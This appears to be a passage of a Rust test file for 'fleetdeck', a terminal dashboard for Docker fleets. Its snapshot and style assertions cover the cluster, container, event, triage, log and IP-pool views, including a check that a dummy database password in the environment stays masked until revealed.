//! Render tests: the views drawn into a TestBackend at 80x24 and 200x50, compared as text with
//! insta, plus assertions on the styles that carry meaning (text snapshots do not see colour).

#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a panic is a failure report

use std::collections::BTreeMap;
use std::time::Duration;

use chrono::{DateTime, TimeDelta, TimeZone, Utc};
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use fleetdeck::app::App;
use fleetdeck::config::{self, Config};
use fleetdeck::model::container::{ContainerDetail, NetAttachment, PortBinding};
use fleetdeck::model::events::{FleetEvent, Severity};
use fleetdeck::model::{Container, ContainerState, DaemonInfo, Health, Msg, MsgKind, SyncData};
use fleetdeck::ui::{Theme, buffer_to_text};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;

#[path = "render/mouse.rs"]
mod mouse;

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 26, 12, 0, 0).unwrap()
}

/// The fixture's three endpoints, two clusters.
const ENDPOINTS: &str = r#"
[[endpoint]]
name = "us-east-01"
url = "tcp://10.0.0.5:2376"
cluster = "prod-us"

[[endpoint]]
name = "us-east-02"
url = "ssh://ops@10.0.0.6"
cluster = "prod-us"

[[endpoint]]
name = "eu-west-01"
url = "unix:///run/eu.sock"
cluster = "prod-eu"
"#;

fn config() -> Config {
    config::parse_str(ENDPOINTS, std::path::Path::new("render.toml")).unwrap()
}

fn container(id: &str, name: &str, state: ContainerState, ip: &str) -> Container {
    Container {
        id: format!("{id}{}", "0".repeat(64 - id.len())),
        name: name.into(),
        image: "registry.local/shop/web:2.4.1".into(),
        state,
        health: Health::None,
        created: Some(now() - TimeDelta::days(3)),
        started_at: Some(now() - TimeDelta::minutes(192)),
        finished_at: None,
        restart_count: 0,
        exit_code: Some(0),
        oom_killed: false,
        labels: BTreeMap::from([("app".into(), name.split('-').next().unwrap().into())]),
        networks: vec![NetAttachment {
            network: "dockernet".into(),
            ipv4: Some(ip.into()),
            static_ipv4: Some(ip.into()),
            gateway: Some("192.168.2.14".into()),
            ..NetAttachment::default()
        }],
        ports: vec![PortBinding {
            private: 8080,
            public: Some(80),
            host_ip: Some("0.0.0.0".into()),
            proto: "tcp".into(),
        }],
        detail: ContainerDetail {
            command: vec!["/app/start.sh".into(), "--port=8080".into()],
            env: vec![
                ("DB_PASSWORD".into(), "hunter2".into()),
                ("PATH".into(), "/usr/bin".into()),
            ],
            restart_policy: "always".into(),
            ..ContainerDetail::default()
        },
        list_status: String::new(),
    }
}

fn info() -> DaemonInfo {
    DaemonInfo {
        hostname: "host".into(),
        engine_version: "20.10.24+dfsg1".into(),
        api_version: "1.41".into(),
        server_api_version: "1.41".into(),
        os: "Debian GNU/Linux 12".into(),
        cpus: 8,
        memory_bytes: 32 * 1024 * 1024 * 1024,
        swarm: "inactive".into(),
        ..DaemonInfo::default()
    }
}

/// Two endpoints up with a realistic mix, one down after having been synced (stale rows).
fn app() -> App {
    app_with(&config())
}

/// [`app`]'s fleet under another config (alert rules of its own).
fn app_with(config: &Config) -> App {
    let mut app = App::new(config, Theme::dark());
    app.now = now();
    let mut unhealthy = container("c2", "api-1", ContainerState::Running, "192.168.2.21");
    unhealthy.health = Health::Unhealthy;
    let mut crashed = container("c3", "worker-1", ContainerState::Exited, "192.168.2.22");
    crashed.exit_code = Some(137);
    crashed.oom_killed = true;
    crashed.finished_at = Some(now() - TimeDelta::minutes(4));
    let mut restarting = container("c4", "cron-1", ContainerState::Restarting, "192.168.2.23");
    restarting.restart_count = 12;
    let mut healthy = container("c5", "web-2", ContainerState::Running, "192.168.2.24");
    healthy.health = Health::Healthy;
    let data = [
        vec![
            container("c1", "web-1", ContainerState::Running, "192.168.2.20"),
            unhealthy,
            crashed,
        ],
        vec![restarting, healthy],
        vec![container(
            "c6",
            "web-eu-1",
            ContainerState::Running,
            "10.8.0.20",
        )],
    ];
    // The daemons' own labels (`dockerd --label`), shown in the clusters view and the detail.
    let engine_labels = [
        [("dc", "us-east"), ("subnet", "192.168.2.0/24")],
        [("dc", "us-east"), ("subnet", "192.168.2.0/24")],
        [("dc", "eu-west"), ("subnet", "10.8.0.0/24")],
    ];
    for (i, containers) in data.into_iter().enumerate() {
        app.apply(Msg {
            endpoint: i,
            at: now() - TimeDelta::minutes(10),
            kind: MsgKind::Synced(Box::new(SyncData {
                info: DaemonInfo {
                    labels: engine_labels[i]
                        .iter()
                        .map(|(k, v)| (k.to_string(), v.to_string()))
                        .collect(),
                    ..info()
                },
                containers,
                latency: Some(Duration::from_millis(3 + i as u64)),
                // The containers above already reflect the events below (history for the
                // events view), so those are logged but not applied to them again.
                daemon_time: Some(now()),
                ..SyncData::default()
            })),
        });
    }
    let event =
        |endpoint, mins_ago: i64, action: &str, (id, actor): (&str, &str), exit: Option<i64>| {
            let mut e = FleetEvent {
                time_nano: (now() - TimeDelta::minutes(mins_ago))
                    .timestamp_nanos_opt()
                    .unwrap(),
                endpoint,
                kind: "container".into(),
                action: action.into(),
                actor_id: format!("{id}{}", "0".repeat(64 - id.len())),
                actor: actor.into(),
                details: exit.map(|c| vec![format!("exit {c}")]).unwrap_or_default(),
                exit_code: exit,
                severity: Severity::Info,
                restart_loop: false,
            };
            e.classify();
            e
        };
    app.apply(Msg {
        endpoint: 0,
        at: now() - TimeDelta::minutes(4),
        kind: MsgKind::Events(vec![
            event(0, 9, "start", ("c1", "web-1"), None),
            event(0, 6, "health_status: unhealthy", ("c2", "api-1"), None),
            event(0, 4, "die", ("c3", "worker-1"), Some(137)),
            event(0, 4, "oom", ("c3", "worker-1"), None),
        ]),
    });
    app.apply(Msg {
        endpoint: 2,
        at: now() - TimeDelta::minutes(2),
        kind: MsgKind::Down {
            reason: "connection refused".into(),
            retry_in: Duration::from_secs(8),
        },
    });
    app
}

fn render(app: &mut App, w: u16, h: u16) -> Buffer {
    let mut term = Terminal::new(TestBackend::new(w, h)).unwrap();
    app.prepare_frame(w, h);
    term.draw(|f| app.draw(f)).unwrap();
    term.backend().buffer().clone()
}

fn key(app: &mut App, code: KeyCode) {
    app.handle_key(KeyEvent::new(code, KeyModifiers::NONE));
}

/// Presses `/`, types `text` and Enter: the containers filter, or the search of the log or
/// inspect view, whichever is open.
fn search(app: &mut App, text: &str) {
    key(app, KeyCode::Char('/'));
    for c in text.chars() {
        key(app, KeyCode::Char(c));
    }
    key(app, KeyCode::Enter);
}

/// Local-time renderings (header clock, "last contact") differ by time zone: mask them.
macro_rules! snap {
    ($name:expr, $buf:expr) => {
        insta::with_settings!({filters => vec![
            (r"\d\d:\d\d:\d\d", "HH:MM:SS"),
            (r"(?m) \d\d:\d\d$", " HH:MM"),
            (r"\d{4}-\d\d-\d\d HH:MM:SS", "DATE HH:MM:SS"),
        ]}, {
            insta::assert_snapshot!($name, buffer_to_text(&$buf));
        });
    };
}

/// Each of `items` is on screen, in this order from the top.
fn assert_in_order(text: &str, items: &[&str]) {
    let order: Vec<usize> = items
        .iter()
        .map(|p| {
            text.find(p)
                .unwrap_or_else(|| panic!("{p} missing:\n{text}"))
        })
        .collect();
    assert!(order.windows(2).all(|w| w[0] < w[1]), "order:\n{text}");
}

fn find_cell(buf: &Buffer, text: &str) -> (u16, u16) {
    let area = buf.area;
    for y in 0..area.height {
        let line: String = (0..area.width)
            .map(|x| buf[(x, y)].symbol().to_string())
            .collect();
        if let Some(byte) = line.find(text) {
            let x = line[..byte].chars().count() as u16;
            return (x, y);
        }
    }
    panic!("{text:?} not on screen:\n{}", buffer_to_text(buf));
}

#[test]
fn clusters_view_at_80x24_and_200x50() {
    let mut app = app();
    snap!("clusters_80x24", render(&mut app, 80, 24));
    snap!("clusters_200x50", render(&mut app, 200, 50));
}

#[test]
fn the_selected_endpoints_engine_and_node_labels_follow_the_selection_at_80x24() {
    let mut app = app();
    // us-east-02 manages a swarm whose node list gives us-east-01's node labels.
    let mut manager = info();
    manager.labels = BTreeMap::from([("dc".into(), "us-east".into())]);
    manager.swarm_nodes = vec![fleetdeck::model::SwarmNode {
        id: "n1".into(),
        hostname: "host".into(),
        labels: BTreeMap::from([("tier".into(), "edge".into())]),
    }];
    app.apply(Msg {
        endpoint: 1,
        at: now(),
        kind: MsgKind::Info(Box::new(manager)),
    });
    let mut worker = app.fleet.endpoints[0].info.clone().unwrap();
    worker.node_id = "n1".into();
    app.apply(Msg {
        endpoint: 0,
        at: now(),
        kind: MsgKind::Info(Box::new(worker)),
    });
    let lines = |app: &mut App| {
        buffer_to_text(&render(app, 80, 24))
            .lines()
            .map(str::to_string)
            .collect::<Vec<_>>()
    };
    let border = |app: &mut App, text: &str| {
        let line = lines(app)[5].clone();
        assert!(
            line.starts_with(&format!("└ {text} ─")) && line.ends_with("─┘"),
            "{line}"
        );
    };
    border(
        &mut app,
        "us-east-01 labels: dc=us-east subnet=192.168.2.0/24 · node tier=edge",
    );
    let buf = render(&mut app, 80, 24);
    let (x, y) = find_cell(&buf, "us-east-01 labels");
    assert_eq!(buf[(x, y)].fg, Theme::dark().dim.fg.unwrap());
    key(&mut app, KeyCode::Char('j'));
    border(&mut app, "us-east-02 labels: dc=us-east");
}

#[test]
fn containers_view_at_80x24_and_200x50() {
    let mut app = app();
    key(&mut app, KeyCode::Char('2'));
    snap!("containers_80x24", render(&mut app, 80, 24));
    snap!("containers_200x50", render(&mut app, 200, 50));
}

/// The text of the first line of `buf` that holds `text`.
fn row_of(buf: &Buffer, text: &str) -> String {
    let (_, y) = find_cell(buf, text);
    (0..buf.area.width)
        .map(|x| buf[(x, y)].symbol().to_string())
        .collect()
}

/// A live event of web-2 (on endpoint 1), `secs` after the fixture's sync.
fn web2_event(secs: i64, action: &str, details: &[&str], exit: Option<i64>) -> FleetEvent {
    let mut e = FleetEvent {
        time_nano: (now() + TimeDelta::seconds(secs))
            .timestamp_nanos_opt()
            .unwrap(),
        endpoint: 1,
        kind: "container".into(),
        action: action.into(),
        actor_id: format!("c5{}", "0".repeat(62)),
        actor: "web-2".into(),
        details: details.iter().map(|d| d.to_string()).collect(),
        exit_code: exit,
        severity: Severity::Info,
        restart_loop: false,
    };
    e.classify();
    e
}

#[test]
fn a_die_event_changes_the_row_at_once_without_waiting_for_the_inspect() {
    let mut app = app();
    key(&mut app, KeyCode::Char('2'));
    let row = |buf: &Buffer| row_of(buf, "web-2");
    assert!(row(&render(&mut app, 200, 50)).contains("Up 3h12m"));
    // After the sync (which the fixture dates `now()`), as a live event is.
    app.now = now() + TimeDelta::seconds(30);
    let die = web2_event(20, "die", &["exit 3"], Some(3));
    // `true`: the loop redraws at the next frame deadline. No ContainerChanged follows.
    assert!(app.apply(Msg {
        endpoint: 1,
        at: app.now,
        kind: MsgKind::Events(vec![die]),
    }));
    let row = row(&render(&mut app, 200, 50));
    assert!(row.contains("Exited (3)"), "{row}");
    assert!(!row.contains("Up 3h12m"), "{row}");
}

#[test]
fn a_stop_signal_reads_stopping_at_once_then_exited_on_the_die() {
    let mut app = app();
    key(&mut app, KeyCode::Char('2'));
    let row = |buf: &Buffer| row_of(buf, "web-2");
    app.now = now() + TimeDelta::seconds(30);
    let heard = app.now - TimeDelta::seconds(2);
    assert!(app.apply(Msg {
        endpoint: 1,
        at: heard,
        kind: MsgKind::Events(vec![web2_event(
            20,
            "kill",
            &["signal 15", "image web:1"],
            None
        )]),
    }));
    for (w, h) in [(200, 50), (80, 24)] {
        let buf = render(&mut app, w, h);
        let line = row(&buf);
        assert!(line.contains("stopping"), "{w}x{h}: {line}");
        assert!(line.contains("SIGTERM 2s ago"), "{w}x{h}: {line}");
        let (x, y) = find_cell(&buf, "stopping");
        assert_eq!(
            buf[(x, y)].fg,
            Theme::dark().container_restarting.fg.unwrap()
        );
    }
    // The detail panel says what was sent and when.
    search(&mut app, "name:web-2");
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 120, 40));
    assert!(
        text.contains("stopping: SIGTERM sent 2s ago, Up 3h"),
        "{text}"
    );
    key(&mut app, KeyCode::Esc);
    // The die: exited, whatever the signal said.
    assert!(app.apply(Msg {
        endpoint: 1,
        at: app.now,
        kind: MsgKind::Events(vec![web2_event(22, "die", &["exit 143"], Some(143))]),
    }));
    let text = buffer_to_text(&render(&mut app, 200, 50));
    let line = text
        .lines()
        .find(|l| l.contains("web-2") && !l.contains("Containers ·"))
        .unwrap_or_default();
    assert!(
        line.contains("exited") && line.contains("Exited (143)"),
        "{text}"
    );
    assert!(!line.contains("stopping"), "{line}");
}

#[test]
fn a_down_endpoint_is_red_and_its_rows_are_stale() {
    let mut app = app();
    let theme = Theme::dark();
    let buf = render(&mut app, 140, 30);
    let (x, y) = find_cell(&buf, "✖ down");
    assert_eq!(buf[(x, y)].fg, theme.endpoint_down.fg.unwrap());
    let (x, y) = find_cell(&buf, "● up");
    assert_eq!(buf[(x, y)].fg, theme.endpoint_up.fg.unwrap());
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("connection refused") && text.contains("retry 8s"),
        "{text}"
    );

    key(&mut app, KeyCode::Char('2'));
    let buf = render(&mut app, 120, 30);
    let (x, y) = find_cell(&buf, "web-eu-1");
    assert_eq!(
        buf[(x, y)].fg,
        theme.stale.fg.unwrap(),
        "stale rows are dimmed"
    );
    let (x, y) = find_cell(&buf, "stale Up");
    assert_eq!(buf[(x, y)].fg, theme.stale.fg.unwrap());
}

/// [`app`], with lab2 (endpoint 1) just reconnected: its list is in, one of its two inspects.
fn awaiting_details_app() -> App {
    let mut app = app();
    let list_only = |c: &Container, status: &str| Container {
        started_at: None,
        finished_at: None,
        restart_count: 0,
        detail: ContainerDetail::default(),
        list_status: status.into(),
        ..c.clone()
    };
    let mut cron = container("c4", "cron-1", ContainerState::Restarting, "192.168.2.23");
    cron.restart_count = 12;
    let mut web = container("c5", "web-2", ContainerState::Running, "192.168.2.24");
    web.health = Health::Healthy;
    let rows = vec![
        list_only(&cron, "Restarting (1) 3 seconds ago"),
        list_only(&web, "Up 3 hours (healthy)"),
    ];
    app.apply(Msg {
        endpoint: 1,
        at: now(),
        kind: MsgKind::Listed(Box::new(SyncData {
            info: info(),
            containers: rows,
            latency: Some(Duration::from_millis(4)),
            daemon_time: Some(now()),
            ..SyncData::default()
        })),
    });
    app.apply(Msg {
        endpoint: 1,
        at: now(),
        kind: MsgKind::Inspected {
            containers: vec![web],
            gone: vec![],
        },
    });
    app
}

#[test]
fn details_still_coming_in_are_marked_in_the_header_and_on_the_endpoint() {
    let mut app = awaiting_details_app();
    let theme = Theme::dark();
    snap!("clusters_awaiting_details_80x24", render(&mut app, 80, 24));
    let buf = render(&mut app, 200, 50);
    snap!("clusters_awaiting_details_200x50", buf);
    let text = buffer_to_text(&buf);
    assert!(
        text.contains("2/3 up · 6 containers · details 5/6"),
        "{text}"
    );
    let (x, y) = find_cell(&buf, "details 1/2");
    assert_eq!(buf[(x, y)].fg, theme.endpoint_connecting.fg.unwrap());
    // The listed row says what Docker's list said until its inspect comes in.
    key(&mut app, KeyCode::Char('2'));
    let buf = render(&mut app, 80, 24);
    snap!("containers_awaiting_details_80x24", buf);
    let text = buffer_to_text(&buf);
    assert!(text.contains("Restarting (1) 3"), "{text}");
    // Once every inspect is in, the marker is gone.
    let mut cron = container("c4", "cron-1", ContainerState::Restarting, "192.168.2.23");
    cron.restart_count = 12;
    app.apply(Msg {
        endpoint: 1,
        at: now(),
        kind: MsgKind::Inspected {
            containers: vec![cron],
            gone: vec![],
        },
    });
    let text = buffer_to_text(&render(&mut app, 200, 50));
    assert!(!text.contains("· details"), "{text}");
    assert!(text.contains("Restarting (12)"), "{text}");
}

/// An endpoint that went down mid-inspect is not loading anything: the header does not count
/// its rows as details to come.
#[test]
fn the_header_counts_details_to_come_on_endpoints_that_are_up_only() {
    let mut app = awaiting_details_app();
    let text = buffer_to_text(&render(&mut app, 200, 50));
    assert!(text.contains("· details"), "{text}");
    app.apply(Msg {
        endpoint: 1,
        at: now(),
        kind: MsgKind::Down {
            reason: "connection refused".into(),
            retry_in: Duration::from_secs(4),
        },
    });
    let text = buffer_to_text(&render(&mut app, 200, 50));
    assert!(!text.contains("· details"), "{text}");
}

/// The detail panel of a row the list gave does not show what only an inspect knows (OOM,
/// restarts, start time) as if it were known.
#[test]
fn the_detail_panel_of_a_listed_row_says_its_details_are_loading() {
    let mut app = awaiting_details_app();
    key(&mut app, KeyCode::Char('2'));
    search(&mut app, "name:cron");
    key(&mut app, KeyCode::Enter);
    let text = buffer_to_text(&render(&mut app, 120, 40));
    assert!(
        text.contains("details loading: only what the container list says so far"),
        "{text}"
    );
    assert!(!text.contains("OOM killed"), "{text}");
    assert!(!text.contains("restarts "), "{text}");
}

#[test]
fn the_selected_row_is_highlighted_across_the_table_and_titles_are_styled() {
    let mut app = app();
    let theme = Theme::dark();
    key(&mut app, KeyCode::Char('2'));
    key(&mut app, KeyCode::Char('j'));
    let buf = render(&mut app, 120, 30);
    let (name_x, header_y) = find_cell(&buf, "NAME");
    let title = &buf[(name_x, header_y)];
    if let Some(fg) = theme.title.fg {
        assert_eq!(title.fg, fg);
    }
    assert!(!theme.title.add_modifier.is_empty());
    assert!(title.modifier.contains(theme.title.add_modifier));
    let reversed = ratatui::style::Modifier::REVERSED;
    assert!(theme.selection.add_modifier.contains(reversed));
    // Inside the frame (x 1..119), the gaps between columns included.
    let selected: Vec<u16> = (0..30)
        .filter(|&y| (1..119).all(|x| buf[(x, y)].modifier.contains(reversed)))
        .collect();
    assert_eq!(selected, [header_y + 2], "{}", buffer_to_text(&buf));
}

#[test]
fn unhealthy_and_crashed_containers_stand_out() {
    let mut app = app();
    let theme = Theme::dark();
    key(&mut app, KeyCode::Char('2'));
    let buf = render(&mut app, 200, 50);
    let (x, y) = find_cell(&buf, "unhealthy");
    assert_eq!(buf[(x, y)].fg, theme.container_unhealthy.fg.unwrap());
    assert!(
        buf[(x, y)]
            .modifier
            .contains(ratatui::style::Modifier::BOLD)
    );
    let (x, y) = find_cell(&buf, "Exited (137) OOM");
    assert_eq!(buf[(x, y)].fg, theme.container_exited_nonzero.fg.unwrap());
    let (x, y) = find_cell(&buf, "restarting");
    assert_eq!(buf[(x, y)].fg, theme.container_restarting.fg.unwrap());
}

#[test]
fn detail_panel_masks_env_until_asked() {
    let mut app = app();
    key(&mut app, KeyCode::Char('2'));
    key(&mut app, KeyCode::Char('j'));
    key(&mut app, KeyCode::Enter);
    let buf = render(&mut app, 80, 24);
    snap!("detail_80x24", buf);
    key(&mut app, KeyCode::Char('G'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(
        text.contains("DB_PASSWORD=••••••") && !text.contains("hunter2"),
        "{text}"
    );
    key(&mut app, KeyCode::Char('v'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(text.contains("DB_PASSWORD=hunter2"), "{text}");
    key(&mut app, KeyCode::Esc);
    assert!(app.view.detail.is_none());
}

#[test]
fn filter_sort_and_group_change_what_is_listed() {
    let mut app = app();
    key(&mut app, KeyCode::Char('2'));
    search(&mut app, "label:app=web");
    let text = buffer_to_text(&render(&mut app, 120, 30));
    assert!(text.contains("web-1") && text.contains("web-2") && text.contains("web-eu-1"));
    assert!(
        !text.contains("api-1") && !text.contains("cron-1"),
        "{text}"
    );

    // A bad filter is explained and does not replace the good one.
    search(&mut app, " colour:red");
    let text = buffer_to_text(&render(&mut app, 120, 30));
    assert!(text.contains("unknown filter field \"colour\""), "{text}");
    key(&mut app, KeyCode::Esc);
    key(&mut app, KeyCode::Esc);
    assert!(app.view.filter.is_empty());

    key(&mut app, KeyCode::Char('o'));
    key(&mut app, KeyCode::Char('o'));
    snap!(
        "containers_grouped_by_cluster_120x30",
        render(&mut app, 120, 30)
    );
}

#[test]
fn grouped_by_service_or_compose_project_members_sit_under_one_header_wherever_they_run() {
    let mut app = App::new(&config(), Theme::dark());
    app.now = now();
    let replica = |id: &str, name: &str, state: ContainerState| {
        let mut c = container(id, name, state, "192.168.2.30");
        c.labels = [
            ("fleetdeck.deploy.group".to_string(), "cart".to_string()),
            (
                "fleetdeck.deploy.service".into(),
                name.split("--").next().unwrap().into(),
            ),
        ]
        .into();
        c
    };
    let data = [
        vec![
            replica("r1", "cart-1", ContainerState::Running),
            replica("k1", "cart-1--r1", ContainerState::Exited),
            {
                let mut c = container("w1", "web-1", ContainerState::Running, "192.168.2.20");
                c.labels = [("com.docker.compose.project".to_string(), "shop".to_string())].into();
                c
            },
        ],
        vec![
            {
                let mut c = replica("r2", "cart-2", ContainerState::Running);
                c.labels
                    .insert("com.docker.compose.project".into(), "shop".into());
                c
            },
            replica("r3", "cart-3", ContainerState::Exited),
        ],
        vec![container(
            "c9",
            "cron-1",
            ContainerState::Running,
            "10.8.0.20",
        )],
    ];
    for (i, containers) in data.into_iter().enumerate() {
        app.apply(Msg {
            endpoint: i,
            at: now(),
            kind: MsgKind::Synced(Box::new(SyncData {
                info: info(),
                containers,
                ..SyncData::default()
            })),
        });
    }
    key(&mut app, KeyCode::Char('2'));
    for _ in 0..3 {
        key(&mut app, KeyCode::Char('o'));
    }
    let text = buffer_to_text(&render(&mut app, 80, 24));
    let at = |needle: &str| {
        text.find(needle)
            .unwrap_or_else(|| panic!("{needle:?} not on screen:\n{text}"))
    };
    assert!(
        at("── service cart: 2 running of 4") < at("cart-1 "),
        "{text}"
    );
    for name in ["cart-1 ", "cart-1--r1", "cart-2", "cart-3"] {
        assert!(
            at(name) < at("── (not deployed by fleetdeck) (2)"),
            "{name}: {text}"
        );
    }
    assert!(
        at("── (not deployed by fleetdeck) (2)") < at("cron-1"),
        "{text}"
    );

    // Once more: by compose project, across endpoints; the rest last.
    key(&mut app, KeyCode::Char('o'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    let at = |needle: &str| {
        text.find(needle)
            .unwrap_or_else(|| panic!("{needle:?} not on screen:\n{text}"))
    };
    assert!(
        at("── project shop: 2 running of 2") < at("web-1"),
        "{text}"
    );
    assert!(at("cart-2") < at("── (no compose project) (4)"), "{text}");
}

#[test]
fn help_overlay_lists_the_keymap_and_fits_80x24() {
    let mut app = app();
    key(&mut app, KeyCode::Char('?'));
    let buf = render(&mut app, 80, 24);
    snap!("help_80x24", buf.clone());
    // Every key of this view and every global key is on screen.
    let text = buffer_to_text(&buf);
    let scope = fleetdeck::app::Scope::Clusters;
    for section in app.keymap.help_for(scope) {
        for hint in section.hints {
            assert!(
                text.contains(&hint.action),
                "{} missing:\n{text}",
                hint.action
            );
        }
    }
    // A tall terminal shows the whole keymap (two columns of 64 rows since the shell keys).
    let text = buffer_to_text(&render(&mut app, 120, 70));
    for section in app.keymap.help() {
        assert!(
            text.contains(&section.title),
            "{} missing:\n{text}",
            section.title
        );
    }
    key(&mut app, KeyCode::Char('x'));
    assert!(!app.view.help);
}

/// Syncs `endpoint` with `n` running containers `svc-0000`…, replacing what it had.
fn sync_many(app: &mut App, endpoint: usize, n: usize) {
    let many: Vec<Container> = (0..n)
        .map(|i| {
            container(
                &format!("m{i:05}"),
                &format!("svc-{i:04}"),
                ContainerState::Running,
                "10.1.0.1",
            )
        })
        .collect();
    app.apply(Msg {
        endpoint,
        at: now(),
        kind: MsgKind::Synced(Box::new(SyncData {
            info: info(),
            containers: many,
            ..SyncData::default()
        })),
    });
}

#[test]
fn two_thousand_containers_render_only_the_visible_window() {
    let mut app = app();
    sync_many(&mut app, 0, 2000);
    key(&mut app, KeyCode::Char('2'));
    key(&mut app, KeyCode::Char('G'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(
        text.contains("svc-1999") || text.contains("web-eu-1"),
        "{text}"
    );
    assert!(text.contains("of 2003"), "{text}");
}

#[test]
fn events_view_merges_endpoints_and_colours_by_severity() {
    let mut app = app();
    let theme = Theme::dark();
    key(&mut app, KeyCode::Char('3'));
    snap!("events_80x24", render(&mut app, 80, 24));
    let buf = render(&mut app, 200, 50);
    snap!("events_200x50", buf.clone());
    let (x, y) = find_cell(&buf, "die");
    assert_eq!(buf[(x, y)].fg, theme.event_critical.fg.unwrap());
    let (x, y) = find_cell(&buf, "health: unhealthy");
    assert_eq!(buf[(x, y)].fg, theme.event_warning.fg.unwrap());
    let (x, y) = find_cell(&buf, "connection refused");
    assert_eq!(buf[(x, y)].fg, theme.event_critical.fg.unwrap());

    // Enter on an event opens its container: up from "down" past "oom" to "die".
    for _ in 0..2 {
        key(&mut app, KeyCode::Char('k'));
    }
    let text = buffer_to_text(&render(&mut app, 120, 30));
    assert!(text.contains("paused"), "{text}");
    key(&mut app, KeyCode::Enter);
    assert_eq!(app.view.view, fleetdeck::model::View::Containers);
    let detail = app.view.detail.clone().expect("detail opened");
    assert_eq!(
        app.fleet.endpoints[detail.endpoint].containers[&detail.id].name,
        "worker-1"
    );
}

#[test]
fn triage_lists_what_needs_attention_newest_first() {
    let mut app = app();
    let theme = Theme::dark();
    key(&mut app, KeyCode::Char('4'));
    let buf = render(&mut app, 80, 24);
    snap!("triage_80x24", buf.clone());
    let text = buffer_to_text(&buf);
    assert_in_order(
        &text,
        &["endpoint down", "OOM killed", "unhealthy", "restarting"],
    );
    let (x, y) = find_cell(&buf, "OOM killed");
    assert_eq!(buf[(x, y)].fg, theme.event_critical.fg.unwrap());
}

#[test]
fn log_view_marks_stderr_and_highlights_search_matches() {
    use fleetdeck::model::logs::{LogBuffer, LogLine, LogSource, LogStream};
    use fleetdeck::ui::state::LogView;
    let mut app = app();
    let theme = Theme::dark();
    let sources = vec![LogSource {
        endpoint: 0,
        container_id: "c1".into(),
        tag: "us-east-01/web-1".into(),
    }];
    let mut buffer = LogBuffer::new(sources, 100);
    let at = |s: i64| Some(now() + TimeDelta::seconds(s));
    buffer.extend([
        LogLine::from_raw(0, at(1), LogStream::Stdout, "GET /health 200 1ms"),
        LogLine::from_raw(0, at(2), LogStream::Stderr, "error: upstream timed out"),
        LogLine::from_raw(
            0,
            at(3),
            LogStream::Stdout,
            "\x1b[32mGET\x1b[0m /api 200 error-free",
        ),
        LogLine::marker(0, at(4), "── container restarted ──"),
        LogLine::from_raw(0, at(5), LogStream::Stdout, "listening on :8080"),
    ]);
    app.logs = Some(LogView::new(1, buffer));
    key(&mut app, KeyCode::Char('5'));
    search(&mut app, "error");
    let buf = render(&mut app, 80, 24);
    snap!("logs_80x24", buf.clone());
    let (x, y) = find_cell(&buf, "E error");
    assert_eq!(
        buf[(x, y)].fg,
        theme.log_stderr.fg.unwrap(),
        "stderr marked"
    );
    // The newest match is current, the other one plainly highlighted.
    let (x, y) = find_cell(&buf, "error-free");
    assert_eq!(buf[(x, y)].bg, theme.search_current.bg.unwrap());
    let (x, y) = find_cell(&buf, "error: upstream");
    assert_eq!(buf[(x, y)].bg, theme.search_match.bg.unwrap());
    // SGR colour kept as the theme's green, never as an escape.
    let (x, y) = find_cell(&buf, "GET /api");
    assert_eq!(buf[(x, y)].fg, ratatui::style::Color::Green);
    let text = buffer_to_text(&buf);
    assert!(text.contains("search \"error\" 2/2"), "{text}");

    // Only matching lines.
    key(&mut app, KeyCode::Char('F'));
    let text = buffer_to_text(&render(&mut app, 80, 24));
    assert!(
        !text.contains("/health") && text.contains("upstream"),
        "{text}"
    );
    // Save goes through a command, not straight to disk.
    key(&mut app, KeyCode::Char('s'));
    assert!(
        matches!(app.commands.last(), Some(fleetdeck::app::Command::Save { contents, .. }) if contents.contains("E error: upstream"))
    );
}

/// The app with a LAN subnet shared by the two prod-us hosts, and one address taken twice.
fn pools_app() -> App {
    use fleetdeck::model::endpoint::{IpamPool, NetworkInfo};
    let mut app = app();
    for ep in &mut app.fleet.endpoints {
        if ep.spec.cluster == "prod-us" {
            ep.spec
                .labels
                .insert("subnet".into(), "192.168.2.0/24".into());
        }
    }
    let net = |range: &str, gw: &str| NetworkInfo {
        id: format!("net-{gw}"),
        name: "dockernet".into(),
        driver: "bridge".into(),
        scope: "local".into(),
        pools: vec![IpamPool {
            subnet: "192.168.2.0/24".into(),
            ip_range: Some(range.into()),
            gateway: Some(gw.into()),
            aux_addresses: BTreeMap::from([("DefaultGatewayIPv4".into(), "192.168.2.254".into())]),
        }],
        ..NetworkInfo::default()
    };
    for (endpoint, range, gw) in [
        (0, "192.168.2.0/26", "192.168.2.14"),
        (1, "192.168.2.64/26", "192.168.2.65"),
    ] {
        app.apply(Msg {
            endpoint,
            at: now(),
            kind: MsgKind::Networks(vec![net(range, gw)]),
        });
    }
    let twin = container("c9", "web-twin", ContainerState::Running, "192.168.2.20");
    app.apply(Msg {
        endpoint: 1,
        at: now(),
        kind: MsgKind::ContainerChanged(Box::new(twin)),
    });
    app
}

#[test]
fn ip_pools_view_shows_shared_pools_and_conflicts_loudly() {
    let mut app = pools_app();
    let theme = Theme::dark();
    key(&mut app, KeyCode::Char('6'));
    let buf = render(&mut app, 80, 24);
    snap!("pools_80x24", buf.clone());
    let wide = render(&mut app, 200, 50);
    snap!("pools_200x50", wide.clone());
    let text = buffer_to_text(&wide);
    assert!(
        text.contains("dockernet on us-east-01, us-east-02"),
        "one shared pool:\n{text}"
    );
    // The twin's duplicate, and us-east-02's static IPs inside us-east-01's ip-range.
    let (x, y) = find_cell(&buf, "4 conflicts");
    assert_eq!(buf[(x, y)].bg, theme.pool_conflict.bg.unwrap());

    key(&mut app, KeyCode::Enter);
    let buf = render(&mut app, 100, 40);
    snap!("pool_drilldown_100x40", buf.clone());
    let text = buffer_to_text(&buf);
    assert!(text.contains("192.168.2.20 is taken 2 times"), "{text}");
    assert!(text.contains("Next free"), "{text}");
    let (x, y) = find_cell(&buf, "✖ 192.168.2.20");
    assert_eq!(buf[(x, y)].bg, theme.pool_conflict.bg.unwrap());

    // Triage lists it; the clusters view counts it.
    key(&mut app, KeyCode::Esc);
    key(&mut app, KeyCode::Char('4'));
